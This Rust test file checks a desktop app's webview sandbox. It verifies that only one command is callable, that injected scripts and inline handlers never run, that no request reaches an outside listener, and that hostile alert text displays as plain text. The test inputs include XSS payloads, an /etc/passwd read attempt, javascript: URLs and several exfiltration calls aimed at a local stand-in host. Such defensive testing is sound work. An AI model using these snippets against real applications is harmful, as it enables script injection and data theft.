//! A script in the window can do nothing, and none gets in.

use qd_servers::{Alertmanager, or_skip};
use qd_window_tests::{Listener, Page, Rig, hostile_texts, until};
use serde_json::{Value, json};

use crate::support::folder;

#[tokio::test]
async fn a_script_can_call_the_one_command_and_no_other() {
    let Some(mut rig) = Rig::ready("a_script_can_call_the_one_command_and_no_other") else { return };
    let page = rig.open().await;
    page.see("empty-unset").await;
    assert!(page.ask("status", json!({})).await["ok"].is_object(), "the one command works");
    assert_eq!(page.ask("no_such", json!({})).await["error"], "unknown_command");
    let refused = [
        ("plugin:webview|internal_toggle_devtools", json!({})),
        (
            "plugin:webview|create_webview_window",
            json!({ "options": { "label": "x", "url": "https://example.org" } }),
        ),
        ("plugin:window|close", json!({ "label": "main" })),
        ("plugin:window|set_title", json!({ "label": "main", "value": "x" })),
        ("plugin:event|emit", json!({ "event": "bell", "payload": { "seq": 1 } })),
        ("plugin:event|emit_to", json!({ "target": "main", "event": "bell", "payload": null })),
        ("plugin:path|resolve_directory", json!({ "directory": 1 })),
        ("plugin:app|name", json!({})),
        ("plugin:shell|open", json!({ "path": "https://example.org" })),
        ("plugin:opener|open_url", json!({ "url": "https://example.org" })),
        ("plugin:fs|read_text_file", json!({ "path": "/etc/passwd" })),
        ("get_secret", json!({})),
    ];
    for (command, args) in refused {
        let answer = page.invoke(command, &args).await;
        let error = answer["error"].as_str().unwrap_or_else(|| panic!("{command} answered {answer}"));
        assert!(error.contains("not allowed") || error.contains("not found"), "{command}: {error}");
    }
}

#[tokio::test]
async fn no_script_gets_in_and_nothing_gets_out() {
    let Some(mut rig) = Rig::ready("no_script_gets_in_and_nothing_gets_out") else { return };
    let outside = Listener::start();
    let page = rig.open().await;
    page.see("empty-unset").await;
    let home = page.address().await;
    let to = json!(outside.url);

    let inline = "const it = document.createElement('script'); it.textContent = 'window.hit = 1'; document.head.append(it);";
    page.promised(inline).await;
    let policy = "const it = document.createElement('div'); it.innerHTML = '<img src=x onerror=\"window.hit = 2\">'; document.body.append(it);";
    assert!(told(&page.promised(policy).await).contains("TrustedHTML"), "markup is refused where it goes in");
    let handler = "const it = document.createElement('b'); it.setAttribute('onclick', 'window.hit = 3'); document.body.append(it); it.click();";
    page.promised(handler).await;
    assert!(!told(&page.promised("return eval('1')").await).is_empty(), "eval is refused");
    assert!(!told(&page.promised("return new Function('return 1')()").await).is_empty(), "so is its brother");
    page.promised("setTimeout('window.hit = 4', 0)").await;
    assert!(
        !told(&page.promised("return trustedTypes.createPolicy('mine', { createHTML: it => it })").await)
            .is_empty()
    );
    assert!(!told(&page.promised(&format!("return fetch({to})")).await).is_empty(), "no request leaves");
    for sent in [
        format!("new Image().src = {to} + '/x.png'"),
        format!("return navigator.sendBeacon({to}, 'x')"),
        format!("new WebSocket({to}.replace('http', 'ws'))"),
        format!("new EventSource({to})"),
        format!("new Worker({to} + '/x.js')"),
        format!("const it = document.createElement('iframe'); it.src = {to}; document.body.append(it)"),
        format!(
            "const it = document.createElement('script'); it.src = {to} + '/x.js'; document.body.append(it)"
        ),
        format!(
            "const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = {to}; document.head.append(it)"
        ),
        format!(
            "const it = document.createElement('form'); it.action = {to}; document.body.append(it); it.submit()"
        ),
        format!("document.body.style.backgroundImage = `url(${{{to}}}/x.png)`"),
        format!("window.open({to})"),
        format!("location.href = {to}"),
        "location.href = 'data:text/html,x'".to_owned(),
        "location.href = 'javascript:window.hit = 5'".to_owned(),
    ] {
        page.promised(&sent).await;
    }
    // Whatever was to come has come when the core has answered another question.
    assert!(page.ask("status", json!({})).await["ok"].is_object());
    assert_eq!(page.address().await, home, "the window is where it was");
    assert_eq!(page.script("return window.hit ?? null").await, Value::Null, "a script ran");
    assert_eq!(outside.calls(), 0, "something was sent");
    assert!(
        told(
            &page
                .promised("Object.prototype.polluted = 1; return ({}).polluted ?? Promise.reject('frozen')")
                .await
        ) == "frozen"
    );
}

#[tokio::test]
async fn what_an_alert_says_is_text_and_nothing_else() {
    const TEST: &str = "what_an_alert_says_is_text_and_nothing_else";
    let Some(mut rig) = Rig::ready(TEST) else { return };
    let Some(alertmanager) = or_skip(TEST, Alertmanager::start(&folder(&rig, "alertmanager"))) else {
        return;
    };
    let outside = Listener::start();
    let payloads: Vec<String> = hostile_texts(&outside.url).into_iter().take(30).collect();
    alertmanager.post_alerts(&hostile(&payloads)).unwrap();
    let config = format!(
        "[[connection]]\nid = \"alerts\"\nbackend = \"alertmanager\"\nurl = \"{}\"\ncredential = \"none\"\n",
        alertmanager.url()
    );
    std::fs::write(rig.home().join("config.toml"), config).unwrap();
    rig.next_size(1900, 1000);
    let page = rig.open().await;
    page.click("rail-alerts").await;
    until_rows(&page, payloads.len()).await;
    let home = page.address().await;
    for row in 0..payloads.len() {
        let row = format!("[data-testid=\"row\"][aria-rowindex=\"{}\"]", row + 2);
        page.click_css(&row).await;
        page.see_css(&format!("{row}[aria-selected=\"true\"]")).await;
        page.see("action-silence").await;
    }
    page.picture("hostile-text").await;
    assert!(page.ask("status", json!({})).await["ok"].is_object());
    assert_eq!(page.script("return window.hit ?? null").await, Value::Null, "a payload ran");
    assert_eq!(
        page.count(
            ".panel script, .panel img, .panel iframe, .panel svg[onload], .panel a[href^=javascript]"
        )
        .await,
        0
    );
    assert!(page.address().await.starts_with(home.split('#').next().unwrap()));
    assert_eq!(outside.calls(), 0, "something was loaded");
    let text = page.script("return document.body.textContent").await;
    assert!(
        !text.as_str().unwrap().contains('\u{202e}'),
        "a character that turns text round is shown as its code"
    );
}

async fn until_rows(page: &Page, wanted: usize) {
    let began = std::time::Instant::now();
    while page.count("[data-testid=\"row\"]").await < wanted {
        assert!(began.elapsed() < qd_window_tests::LIMIT, "not all rows came:\n{}", page.text().await);
        tokio::task::yield_now().await;
    }
    until("the list is quiet", || Some(())).await;
}

fn told(answer: &Value) -> String {
    answer["error"].as_str().unwrap_or_default().to_owned()
}

/// The same text in every place that an author of alerts can write to.
fn hostile(payloads: &[String]) -> Value {
    let alert = |(number, text): (usize, &String)| {
        json!({
            "labels": { "alertname": text, "n": number.to_string(), "service": text, "severity": "critical", "environment": text },
            "annotations": { "summary": text, "description": text, "runbook_url": text, "dashboard": text },
            "generatorURL": "http://127.0.0.1:9/",
        })
    };
    payloads.iter().enumerate().map(alert).collect()
}
